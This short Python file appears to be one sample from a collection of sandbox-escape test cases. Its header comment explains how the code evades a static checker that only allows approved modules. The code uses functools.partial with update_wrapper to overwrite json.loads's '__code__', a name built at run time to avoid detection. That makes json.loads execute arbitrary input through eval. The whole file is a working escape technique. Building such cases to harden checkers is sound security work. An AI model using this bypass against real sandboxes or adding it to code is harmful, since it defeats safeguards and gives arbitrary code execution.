# family: combinations
# escape: a decorator `functools.partial(functools.update_wrapper, json.loads, assigned=...)` is a name from an
# allowed module, and `assigned` goes to partial, not to a call named update_wrapper, so "__code__" (built at run
# time) is never checked: json.loads gets the payload's code and runs it with json's globals.
import functools
import json

NAME = "__" + "".join(reversed("edoc")) + "__"

@functools.partial(functools.update_wrapper, json.loads, assigned=(NAME,), updated=())
def payload(s, *args, **kwargs):
    return codecs.builtins.eval(s)

def tool(expr: str):
    return json.loads(expr)
